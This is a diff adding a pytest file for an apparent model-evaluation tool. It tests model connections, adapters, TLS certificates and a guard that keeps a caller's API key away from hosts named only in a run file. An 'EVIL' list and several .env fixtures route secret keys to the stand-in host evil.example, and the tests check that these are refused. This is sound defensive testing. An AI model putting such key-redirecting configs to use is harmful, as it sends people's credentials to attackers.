@@ -1,0 +1,290 @@
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from answerkey.models import (
+    Caller,
+    CustomConfig,
+    Generation,
+    InferenceConfig,
+    ModelConfig,
+    Tls,
+    connect,
+    open_model,
+)
+from answerkey.spec import Loaded, Overrides, Plan, load_plan
+
+from .conftest import RUN, TASK, Write
+
+KEY = "sk-canary-0123456789"
+SOLVER = """\
+  solver:
+    type: single_turn_solver
+    input_builder: {type: chat_completion, input_messages: [{role: user, content: "{{ sample.answer }}"}]}
+"""
+CERTIFICATE = """\
+-----BEGIN CERTIFICATE-----
+MIIBcDCCARWgAwIBAgIUAfHZ9LeLJOnluYa7kCa9bxzEaB4wCgYIKoZIzj0EAwIw
+DDEKMAgGA1UEAwwBdDAgFw0yNjExMTUxODEzMzVaGA8yMTI2MTAyMjE4MTMzNVow
+DDEKMAgGA1UEAwwBdDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABPuXyybDj7IU
+tqzvZzVRvCUh9gKiWn98h3TD5C9Rh3zTlike+WoWH5LoWWdn4mowuMCjSi401xuO
+yY6ueIZ9kjWjUzBRMB0GA1UdDgQWBBSvwPKaYnYv+cP2O63ecPwm4350fTAfBgNV
+HSMEGDAWgBSvwPKaYnYv+cP2O63ecPwm4350fTAPBgNVHRMBAf8EBTADAQH/MAoG
+CCqGSM49BAMCA0kAMEYCIQChPKQzz2pzd441h7/BHOD80oA/jx41w5mGcOj16fEl
+8AIhAJQ7C4kFcPNbLPfKE2lAOtcH9/Y7fkneXf0VuX1vJ5jq
+-----END CERTIFICATE-----"""
+KEYS = {"OPENAI_API_KEY": KEY, "MY_KEY": KEY}
+
+
+def load(
+    project: Write, head: str, model: str, *, more: str = "", overrides: Overrides | None = None
+) -> Loaded[Plan]:
+    """Return what a run file says whose only task asks a model of the file."""
+    project(task_yaml=TASK + SOLVER, run_yaml=f"{head}{RUN}      model_key: {model}\n{more}")
+    loaded = load_plan("run.yaml", overrides or Overrides(environment=KEYS))
+    assert "canary" not in str(loaded.errors) + repr(loaded)
+    return loaded
+
+
+def model_of(loaded: Loaded[Plan]) -> ModelConfig:
+    """Return the model of the only specification."""
+    assert loaded.errors == []
+    assert loaded.value is not None
+    model = loaded.value.specifications[0].model
+    assert isinstance(model, ModelConfig)
+    return model
+
+
+def refusal_of(loaded: Loaded[Plan]) -> tuple[str, str, str | None]:
+    """Return code, place and hint of the only error."""
+    (error,) = loaded.errors
+    return error.code, str(error.where), error.hint
+
+
+def own(config: str, more: str = "") -> str:
+    """Return the `models` of a run file with one model, `own`."""
+    return f"models:\n  - key: own\n    display_name: Own\n    config: {config}\n{more}"
+
+
+def test_a_model_of_the_file_can_be_asked(project: Write) -> None:
+    """Limits, generation and connection of a model file are those of the connection."""
+    text = own(
+        "{url: 'http://127.0.0.1:8000/v1', model_key: m, api_key: $MY_KEY}",
+        "    rate_limit: 30\n    tokens_per_minute: 900\n    max_concurrent_requests: 4\n"
+        "    generation: {temperature: 0, max_tokens: 5, stop: [a, b]}\n",
+    )
+    connection = connect(model_of(load(project, text, "own")))
+    assert connection.url == "http://127.0.0.1:8000/v1/chat/completions"
+    assert (connection.name, connection.model) == ("own", "m")
+    assert connection.reveal_headers() == {"Authorization": f"Bearer {KEY}"}
+    limits = (connection.requests_per_minute, connection.tokens_per_minute, connection.max_concurrent)
+    assert limits == (30.0, 900.0, 4)
+    assert connection.generation == Generation(temperature=0, max_tokens=5, stop=("a", "b"))
+
+
+def test_generation_of_a_specification_wins(project: Write) -> None:
+    """What a task specification sets wins over the model, parameter by parameter."""
+    text = own("{url: 'http://127.0.0.1/v1'}", "    generation: {temperature: 1, seed: 3}\n")
+    model = model_of(load(project, text, "own", more="      generation: {temperature: 0}\n"))
+    assert model.generation == Generation(temperature=0, seed=3)
+
+
+def test_provider_models(project: Write) -> None:
+    """A `$provider` entry is asked under its key, with its own base URL and API if it has them."""
+    entry = "{$provider: openai/GPT-4, base_url: 'http://127.0.0.1:9/v1', api: completions}"
+    model = model_of(load(project, f"models:\n  - {entry}\n", "openai$gpt-4"))
+    assert connect(model).url == "http://127.0.0.1:9/v1/completions"
+    text = own(
+        "{connection_type: provider_connection, provider_id: anthropic, model_key: claude, api_key: x}"
+    )
+    connection = connect(model_of(load(project, text, "own")))
+    assert (connection.url, connection.model) == ("https://api.anthropic.com/v1/messages", "claude")
+
+
+def test_names_need_no_definition(project: Write) -> None:
+    """A provider's model or a URL can be named in a task specification, and by the caller."""
+    assert model_of(load(project, "", "openai/gpt-4?seed=1")).generation == Generation(seed=1)
+    assert connect(model_of(load(project, "", "http://127.0.0.1:8000/v1#m"))).model == "m"
+    named = Overrides(environment=KEYS, model="https://lab.example/v1#m")
+    assert connect(model_of(load(project, "", "builtin/random", overrides=named))).model == "m"
+
+
+def test_adapters_of_the_file(project: Write) -> None:
+    """A model finds its adapter, in its config or beside it; the built-in ones need none."""
+    adapter = (
+        "model_adapters:\n"
+        "  - key: mine\n"
+        "    process_input: {language: jinja, source_code: '{{ input | tojson }}'}\n"
+        "    process_output: {language: jinja, source_code: '{{ body }}'}\n"
+    )
+    for text in (
+        own("{url: 'http://127.0.0.1/ask', adapter: {key: mine}}"),
+        own("{url: 'http://127.0.0.1/ask'}", "    adapter: {key: mine}\n"),
+    ):
+        model = model_of(load(project, text + adapter, "own"))
+        assert isinstance(model.config, CustomConfig)
+        assert model.config.adapter is not None
+        assert connect(model).build([{"role": "user", "content": "q"}]) == {
+            "messages": [{"role": "user", "content": "q"}]
+        }
+    for name in ("identity", "openai_chat_completion", "openai"):
+        text = own(f"{{url: 'http://127.0.0.1/ask', adapter: {{key: latticeflow${name}}}}}")
+        model = model_of(load(project, text, "own"))
+        assert isinstance(model.config, CustomConfig)
+        assert model.config.adapter is None
+
+
+@pytest.mark.parametrize(
+    ("code", "errors"),
+    [
+        ("{language: jinja, source_code: '{{ inptu }}'}", ("E112", "run.yaml:6:51")),
+        ("{language: jinja, source_code: '{{ sample }}'}", ("E112", "run.yaml:6:51")),
+        ("{language: python, source_code: 'x = 1'}", ("E116", "run.yaml:6:31")),
+    ],
+)
+def test_adapters_are_checked(project: Write, code: str, errors: tuple[str, str]) -> None:
+    """A template that does not parse, and Python, are errors where they stand."""
+    text = (
+        own("{url: 'http://127.0.0.1/ask', adapter: {key: mine}}")
+        + f"model_adapters: [{{key: mine, process_input: {code}, process_output: {{source_code: x}}}}]\n"
+    )
+    text = text.replace("model_adapters: [{key: mine, ", "model_adapters:\n  - {").replace(
+        "}]\n", ", key: mine}\n"
+    )
+    (error,) = load(project, text, "own").errors
+    assert (error.code, str(error.where)[:10]) == (errors[0], "run.yaml:6")
+
+
+def test_a_placeholder_cannot_be_asked(project: Write) -> None:
+    """The error says so, where the model is defined."""
+    (error,) = load(project, own("{connection_type: placeholder}"), "own").errors
+    assert (error.code, error.message) == ("E301", "model `own` is a placeholder: it cannot be asked")
+
+
+def test_an_embedding_model_cannot_be_asked(project: Write) -> None:
+    """A model whose task is embeddings answers no question."""
+    text = own("{url: 'http://127.0.0.1/v1'}", "    task: embeddings\n")
+    assert load(project, text, "own").errors[0].code == "E301"
+
+
+def test_snippets_of_models_need_trust(project: Write) -> None:
+    """The snippet of a model is among those that the caller must trust; it is checked, not run."""
+    text = own("{connection_type: custom_inference, snippet: 'def infer(messages): return 1'}")
+    loaded = load(project, text, "own")
+    assert isinstance(model_of(loaded).config, InferenceConfig)
+    assert loaded.value is not None
+    assert [one.function for one in loaded.value.specifications[0].snippets] == ["infer"]
+    wrong = own("{connection_type: custom_inference, snippet: 'x = 1'}")
+    assert [error.code for error in load(project, wrong, "own").errors] == ["E108"]
+
+
+def test_certificates(project: Write) -> None:
+    """Certificates of one's own can be trusted; none need be shown at all is refused."""
+    project().joinpath("ca.pem").write_text(CERTIFICATE, encoding="utf-8")
+    context = "{validation_context: {trusted_ca: !include ca.pem}}"
+    text = own(f"{{url: 'https://127.0.0.1/v1', tls_context: {context}}}")
+    assert connect(model_of(load(project, text, "own"))).tls == Tls(CERTIFICATE)
+    assert refusal_of(load(project, text.replace("!include ca.pem", "nonsense"), "own"))[0] == "E108"
+    for word, errors in (("verify_trust_chain", []), ("accept_untrusted", ["E116"])):
+        context = f"{{validation_context: {{trust_chain_verification: {word}}}}}"
+        text = own(f"{{url: 'https://127.0.0.1/v1', tls_context: {context}}}")
+        assert [error.code for error in load(project, text, "own").errors] == errors
+
+
+EVIL = [
+    own("{url: 'https://evil.example/v1', api_key: $OPENAI_API_KEY}"),
+    own("{url: 'https://evil.example/v1', api_key: << secrets.MY_KEY >>}"),
+    own("{url: 'https://evil.example/v1', custom_headers: {X-Key: '${MY_KEY}'}}"),
+    own("{url: 'https://evil.example/v1', custom_headers: {X-Key: $OPENAI_API_KEY/x}}"),
+    own("{url: 'https://evil.example/v1', api_key: << secrets.A >>}", "secrets: {A: $OPENAI_API_KEY}\n"),
+    own(
+        "{url: 'https://evil.example/v1', api_key: << secrets.A >>}", "secrets: [{key: A, value: $MY_KEY}]\n"
+    ),
+    own(
+        "{connection_type: provider_connection, provider_id: openai, model_key: m,"
+        " base_url: 'https://evil.example/v1'}"
+    ),
+    own("{url: '${START}@evil.example/v1', api_key: $OPENAI_API_KEY}").replace("@", "."),
+]
+
+
+@pytest.mark.parametrize("text", EVIL)
+def test_a_file_cannot_send_the_callers_key_to_a_host_of_its_own(project: Write, text: str) -> None:
+    """Wherever a key of the caller comes in, a host that only the file names does not get it."""
+    environment = {**KEYS, "START": "https://evil.example"}
+    loaded = load(project, text, "own", overrides=Overrides(environment=environment))
+    code, place, hint = refusal_of(loaded)
+    assert (code, place.startswith("run.yaml:4:")) == ("E117", True)
+    assert "--allow-host evil.example" in str(hint)
+
+
+@pytest.mark.parametrize("text", EVIL[:-1])
+def test_the_caller_can_allow_the_host(project: Write, text: str) -> None:
+    """With `--allow-host` the key goes there."""
+    allowed = Overrides(environment=KEYS, allow_hosts=("evil.example",))
+    sent = connect(model_of(load(project, text, "own", overrides=allowed))).reveal_headers()
+    assert KEY in str(sent)
+
+
+def test_a_host_in_the_callers_environment_is_the_callers(project: Write) -> None:
+    """`url: $MY_URL` is a host that the caller named, also with a path behind it."""
+    for url in ("$MY_URL", "${MY_URL}/v1"):
+        text = own(f"{{url: '{url}', api_key: $MY_KEY}}")
+        overrides = Overrides(environment={**KEYS, "MY_URL": "https://lab.example"})
+        assert connect(model_of(load(project, text, "own", overrides=overrides))).host == "lab.example"
+
+
+def test_the_projects_own_env_file_is_the_projects_word(project: Write) -> None:
+    """A `.env` of the project can bring its own key for a host, but not turn the caller's key elsewhere."""
+    folder = project()
+    env = folder / ".env"
+    env.write_text(
+        "OPENAI_BASE_URL=https://evil.example/v1\nMY_URL=https://evil.example/v1\n", encoding="utf-8"
+    )
+    mine = Overrides(environment=KEYS)
+    assert refusal_of(load(project, "", "openai/m", overrides=mine))[0] == "E117"
+    by_url = own("{url: $MY_URL, api_key: $MY_KEY}")
+    assert refusal_of(load(project, by_url, "own", overrides=mine))[0] == "E117"
+    env.write_text(
+        "OPENAI_BASE_URL=https://evil.example/v1\nOPENAI_API_KEY=theirs-0123\nANSWERKEY_ALLOW_HOSTS=evil.example\n",
+        encoding="utf-8",
+    )
+    theirs = connect(model_of(load(project, "", "openai/m", overrides=Overrides(environment={}))))
+    assert theirs.reveal_headers() == {"Authorization": "Bearer theirs-0123"}
+    assert refusal_of(load(project, "", "openai/m", overrides=mine))[0] == "E117"
+
+
+def test_an_env_file_outside_the_project_is_the_callers(
+    project: Write, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """`--env FILE` outside the project holds keys and hosts of the caller."""
+    file: Path = tmp_path_factory.mktemp("mine") / "keys.env"
+    file.write_text(
+        f"MY_KEY={KEY}\nOPENAI_BASE_URL=https://lab.example/v1\nOPENAI_API_KEY={KEY}\n", encoding="utf-8"
+    )
+    overrides = Overrides(environment={}, env_file=file)
+    assert connect(model_of(load(project, "", "openai/m", overrides=overrides))).host == "lab.example"
+    text = own("{url: 'https://evil.example/v1', api_key: $MY_KEY}")
+    assert refusal_of(load(project, text, "own", overrides=overrides))[0] == "E117"
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        "{url: 'https://evil.example/v1', model_key: $OPENAI_API_KEY}",
+        "{url: '$OPENAI_API_KEY/v1'}",
+        "{connection_type: provider_connection, provider_id: openai, model_key: '${OPENAI_API_KEY}'}",
+    ],
+)
+def test_a_key_may_not_stand_where_it_would_be_shown(project: Write, config: str) -> None:
+    """A name that looks like a secret is refused as a model's name or URL."""
+    assert refusal_of(load(project, own(config), "own"))[:1] == ("E117",)
+
+
+def test_open_model_takes_what_a_plan_holds(project: Write) -> None:
+    """The model of a specification can be opened as it is."""
+    model = model_of(load(project, own("{url: 'http://127.0.0.1:8000/v1'}"), "own"))
+    assert open_model(model).name == "own"
+    assert isinstance(model.caller, Caller)
